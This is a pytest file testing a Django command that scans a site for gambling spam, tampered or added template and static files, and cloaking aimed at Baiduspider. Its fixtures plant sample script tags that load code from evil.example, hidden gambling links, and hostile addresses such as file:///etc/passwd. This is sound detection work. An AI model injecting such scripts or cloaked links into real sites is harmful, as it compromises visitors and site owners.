"""scan_content finds spam wherever it hides (revisions, snippets, settings), tampered and added
template files, and pages that show search engines something other than visitors."""

import json
from http.server import BaseHTTPRequestHandler
from io import StringIO

import pytest

from django.core.management import call_command
from django.core.management.base import CommandError

from taxonomy.models import ServiceArea
from tests.faults import local_server
from tests.home.factories import StandardPageFactory

pytestmark = pytest.mark.django_db


def scan(*args):
    """The command's output and whether it passed."""
    out, err = StringIO(), StringIO()
    try:
        call_command("scan_content", *args, stdout=out, stderr=err)
    except CommandError as error:
        return out.getvalue() + str(error), False
    return out.getvalue(), True


@pytest.fixture
def no_manifest(tmp_path):
    return ["--manifest", str(tmp_path / "absent.json")]


def test_clean_site_gives_a_one_line_summary(home, no_manifest):
    """Nothing found: exit status 0 and one line."""
    output, passed = scan(*no_manifest)
    assert passed
    assert output.strip().count("\n") == 0
    assert "clean" in output


def test_spam_in_an_unpublished_revision_is_found(home, no_manifest):
    """A draft revision holding a hidden gambling link is reported with its revision number."""
    page = StandardPageFactory(parent=home, title="办事须知")
    page.body = [("rich_text", '<p style="display:none"><a href="http://x.example">澳门百家乐</a></p>')]
    revision = page.save_revision()
    output, passed = scan(*no_manifest)
    assert not passed
    assert f"revision {revision.pk}" in output
    assert "百家乐" in output


def test_spam_in_a_snippet_is_found(home, no_manifest):
    ServiceArea.objects.create(name="皇冠体育", slug="crown")
    output, passed = scan(*no_manifest)
    assert not passed
    assert "Snippets" in output
    assert "皇冠体育" in output


def test_spam_in_a_site_setting_is_found(site_settings, no_manifest):
    site_settings.sponsor = "澳门新葡京"
    site_settings.save()
    output, passed = scan(*no_manifest)
    assert not passed
    assert "Site settings" in output
    assert "澳门新葡京" in output


def test_manifest_reports_tampered_and_added_templates(home, tmp_path, settings):
    """A template changed or added after deployment is reported; unchanged files are not."""
    templates, static = tmp_path / "templates", tmp_path / "static"
    templates.mkdir()
    static.mkdir()
    (templates / "base.html").write_text("<html>{% block content %}{% endblock %}</html>", "utf-8")
    (static / "site.css").write_text("body { color: #222; }", "utf-8")
    settings.TEMPLATES = [{**settings.TEMPLATES[0], "DIRS": [templates]}]
    settings.STATICFILES_DIRS = [static]
    manifest = tmp_path / "manifest.json"

    call_command("scan_content", "--record-manifest", str(manifest), stdout=StringIO())
    assert scan("--manifest", str(manifest))[1]

    (templates / "base.html").write_text('<html><a href="http://x.example">澳门百家乐</a></html>', "utf-8")
    (templates / "footer.html").write_text("<p>new</p>", "utf-8")
    (static / "site.css").unlink()
    output, passed = scan("--manifest", str(manifest))
    assert not passed
    assert f"tampered (被篡改): {templates / 'base.html'}" in output
    assert f"added (新增): {templates / 'footer.html'}" in output
    assert f"missing (缺失): {static / 'site.css'}" in output
    assert output.count("tampered (被篡改)") == 1


@pytest.fixture
def collected(tmp_path, settings):
    """collectstatic into a temporary STATIC_ROOT, with a manifest of hashed names as WhiteNoise's."""
    settings.STATIC_ROOT = tmp_path / "collected"
    settings.STATIC_MANIFEST = tmp_path / "static-manifest.json"
    settings.STORAGES = {
        **settings.STORAGES,
        "staticfiles": {"BACKEND": "django.contrib.staticfiles.storage.ManifestStaticFilesStorage"},
    }
    call_command("collectstatic", "--noinput", verbosity=0)
    return settings.STATIC_ROOT


def test_served_static_files_are_checked_against_the_recorded_manifest(home, collected, no_manifest):
    """A served file changed, added or removed after collectstatic is reported; an unchanged tree passes."""
    assert (collected / "staticfiles.json").is_file()
    output = StringIO()
    call_command("scan_content", "--record-static", stdout=output)
    assert "Recorded" in output.getvalue()
    output, passed = scan(*no_manifest)
    assert passed, output

    served = json.loads((collected / "staticfiles.json").read_text())["paths"]["css/site.css"]
    with (collected / served).open("a", encoding="utf-8") as file:
        file.write("\n/* <script src=//evil.example/x.js></script> 澳门百家乐 */")
    (collected / "js" / "evil.js").write_text("document.write('<script src=//evil.example></script>')", "utf-8")
    removed = next(
        name
        for name in json.loads((collected / "staticfiles.json").read_text())["paths"].values()
        if name.startswith("js/") and "evil" not in name
    )
    (collected / removed).unlink()
    output, passed = scan(*no_manifest)
    assert not passed
    assert f"tampered (被篡改): {served}" in output
    assert "added (新增): js/evil.js" in output
    assert f"missing (缺失): {removed}" in output
    assert "Served static files" in output


def test_without_a_recorded_static_manifest_the_scan_says_so(home, collected, no_manifest):
    err = StringIO()
    call_command("scan_content", *no_manifest, stdout=StringIO(), stderr=err)
    assert "--record-static" in err.getvalue()


PAGE = '<html><body><h1>服务指南</h1><p>中心开放。</p><a href="/zh-hans/guides/">办事指南</a>{extra}</body></html>'


@pytest.fixture
def local_site():
    """A tiny site on 127.0.0.1 with a sitemap of one page; `cloaked` makes it show Baiduspider a planted link."""
    state = {"cloaked": False}

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self):
            base = f"http://127.0.0.1:{self.server.server_port}"
            if self.path == "/sitemap.xml":
                body = f'<?xml version="1.0"?><urlset><url><loc>{base}/page/</loc></url></urlset>'
                content_type = "application/xml"
            else:
                cloaked = state["cloaked"] and "Baiduspider" in self.headers.get("User-Agent", "")
                body = PAGE.format(extra='<a href="http://casino.example/">在线投注平台</a>' if cloaked else "")
                content_type = "text/html; charset=utf-8"
            data = body.encode("utf-8")
            self.send_response(200)
            self.send_header("Content-Type", content_type)
            self.send_header("Content-Length", str(len(data)))
            self.end_headers()
            self.wfile.write(data)

        def log_message(self, *args):
            pass

    with local_server(Handler) as url:
        yield f"{url}/", state


def test_live_site_serving_everyone_the_same_is_clean(home, local_site, no_manifest):
    base_url, _state = local_site
    output, passed = scan("--live", base_url, "--limit", "5", *no_manifest)
    assert passed, output
    assert "1 live pages" in output


def test_live_site_cloaking_for_baiduspider_is_reported(home, local_site, no_manifest):
    base_url, state = local_site
    state["cloaked"] = True
    output, passed = scan("--live", base_url, *no_manifest)
    assert not passed
    assert "cloaking (黑链): links only Baiduspider gets: http://casino.example/" in output
    assert "Googlebot" not in output  # only the engine it was shown to


@pytest.mark.parametrize("address", ["file:///etc/passwd", "ftp://127.0.0.1/", "javascript:alert(1)"])
def test_live_refuses_addresses_other_than_http(address, db):
    with pytest.raises(CommandError, match="http"):
        call_command("scan_content", "--live", address, stdout=StringIO())
